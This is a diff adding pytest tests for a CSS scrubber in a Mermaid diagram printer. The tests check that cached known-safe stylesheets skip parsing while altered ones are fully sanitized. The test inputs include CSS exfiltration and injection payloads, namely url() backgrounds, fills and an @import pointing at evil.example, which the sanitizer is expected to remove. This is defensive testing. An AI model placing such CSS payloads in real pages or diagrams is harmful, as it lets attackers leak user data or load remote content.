@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
+
 import pytest
 
+from mermaid_printer.postprocess import css
 from mermaid_printer.postprocess.css import (
     check_css_value,
     is_allowed_css_url,
@@ -197,3 +200,79 @@ def test_attribute_selector_exfiltration_loses_its_request():
     scrubbed, warnings = scrub_stylesheet('#m1 [data-x^="a"]{background:url(https://x.example/a)}', scope_id="m1")
     assert "url(" not in scrubbed
     assert warnings
+
+
+# --- known stylesheets (remembered from the warm process's own warm-up output) ----------------
+
+
+@pytest.fixture
+def forget_known_stylesheets() -> Iterator[None]:
+    saved = set(css._safe_templates)
+    css._safe_templates.clear()
+    yield
+    css._safe_templates.clear()
+    css._safe_templates.update(saved)
+
+
+WARM_ID = "mermaid-export"
+REQUEST_ID = "mermaid-0123456789ab"
+
+
+def _with_id(scope_id: str) -> str:
+    return MERMAID_CSS.replace("my-svg", scope_id)
+
+
+@pytest.mark.usefixtures("forget_known_stylesheets")
+def test_a_known_stylesheet_under_another_id_is_returned_without_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert css.remember_safe_stylesheet(_with_id(WARM_ID), WARM_ID)
+    monkeypatch.setattr(css, "_scrub_stylesheet", _never_called)
+    request_css = _with_id(REQUEST_ID)
+    assert scrub_stylesheet(request_css, REQUEST_ID) == (request_css, [])
+
+
+@pytest.mark.usefixtures("forget_known_stylesheets")
+@pytest.mark.parametrize(
+    "request_css",
+    [
+        _with_id(REQUEST_ID) + f"#{REQUEST_ID} .x{{background:url(https://evil.example/a)}}",
+        _with_id(REQUEST_ID) + ".unscoped{fill:red}",
+        _with_id(REQUEST_ID).replace("fill:#ECECFF", "fill:url(//evil.example/x)"),
+        _with_id(REQUEST_ID).replace(f"#{REQUEST_ID} .node rect", f"#{WARM_ID} .node rect"),
+    ],
+)
+def test_any_other_text_is_scrubbed_in_full(request_css: str) -> None:
+    assert css.remember_safe_stylesheet(_with_id(WARM_ID), WARM_ID)
+    scrubbed, notes = scrub_stylesheet(request_css, REQUEST_ID)
+    assert notes
+    assert (scrubbed, notes) == css._scrub_stylesheet(request_css, REQUEST_ID)
+
+
+@pytest.mark.usefixtures("forget_known_stylesheets")
+def test_only_ids_of_the_services_form_take_the_shortcut(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert css.remember_safe_stylesheet(_with_id(WARM_ID), WARM_ID)
+    calls: list[str] = []
+    original = css._scrub_stylesheet
+
+    def counting(text: str, scope_id: str | None) -> tuple[str, list[str]]:
+        calls.append(str(scope_id))
+        return original(text, scope_id)
+
+    monkeypatch.setattr(css, "_scrub_stylesheet", counting)
+    for scope_id in ("my-svg", "mermaid-0123456789abc", "mermaid-ABCDEF012345", "x"):
+        scrub_stylesheet(_with_id(scope_id), scope_id)
+    scrub_stylesheet(_with_id(REQUEST_ID), None)
+    assert calls == ["my-svg", "mermaid-0123456789abc", "mermaid-ABCDEF012345", "x", "None"]
+
+
+@pytest.mark.usefixtures("forget_known_stylesheets")
+def test_a_stylesheet_that_needs_scrubbing_is_not_remembered() -> None:
+    unsafe = _with_id(WARM_ID) + "@import url(https://evil.example/x.css);"
+    assert not css.remember_safe_stylesheet(unsafe, WARM_ID)
+    assert not css.remember_safe_stylesheet(_with_id("my-svg"), "my-svg")  # not an id of the service's form
+    assert not css._safe_templates
+    _scrubbed, notes = scrub_stylesheet(unsafe.replace(WARM_ID, REQUEST_ID), REQUEST_ID)
+    assert notes == ["removed CSS @import"]
+
+
+def _never_called(*_args: object) -> tuple[str, list[str]]:
+    raise AssertionError("a known stylesheet was parsed")
